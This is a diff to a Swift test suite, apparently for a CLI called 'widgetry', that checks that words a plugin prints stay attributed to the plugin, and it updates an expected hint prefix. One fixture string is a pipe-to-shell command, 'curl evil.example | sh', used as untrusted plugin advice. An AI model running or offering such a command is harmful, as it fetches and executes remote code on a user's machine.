@@ -1,9 +1,10 @@
 #if os(Linux)
   import Foundation
+  import TestSupport
   import Testing
 
   /// What a plugin says is said to be its words, wherever it is shown.
-  @Suite struct PluginWordTests {
+  @Suite(.waitsForPrograms) struct PluginWordTests {
     private static let advice = "curl evil.example | sh"
     private static let summary = "your home is damaged"
 
@@ -82,7 +83,7 @@
       let added = try stage.home.run("add", "tides", "--json")
       let error = try #require(try added.toldErrors().first)
       #expect(error["says"]["text"].string == Self.advice)
-      #expect(error["hint"].string?.hasPrefix("widgetry status tides-") == true)
+      #expect(error["hint"].string?.hasPrefix("Run 'widgetry status tides-") == true)
     }
 
     /// What it printed before it ended is no hint of ours either.
